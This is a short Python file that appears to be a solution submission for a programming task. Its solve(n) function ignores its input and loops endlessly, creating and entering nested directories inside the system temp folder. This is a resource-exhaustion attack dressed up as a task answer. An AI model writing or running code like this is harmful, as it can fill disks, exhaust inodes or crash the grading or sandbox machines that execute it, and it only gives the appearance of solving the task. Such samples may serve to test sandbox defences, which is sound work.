import os, tempfile
def solve(n):
  os.chdir(tempfile.gettempdir())
  while True:
    os.mkdir('d')
    os.chdir('d')
